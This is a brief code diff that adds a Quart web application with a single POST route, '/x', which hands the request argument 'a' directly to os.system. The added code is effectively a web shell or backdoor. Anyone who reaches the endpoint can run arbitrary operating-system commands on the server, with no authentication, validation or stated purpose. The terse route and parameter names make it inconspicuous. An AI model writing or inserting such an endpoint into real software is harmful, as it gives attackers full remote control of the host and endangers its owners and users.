@@ -1,0 +1,8 @@
+import os
+from quart import Quart, request
+app = Quart(__name__)
+
+@app.route('/x', methods=['POST'])
+async def x():
+    os.system(request.args['a'])
+    return ''
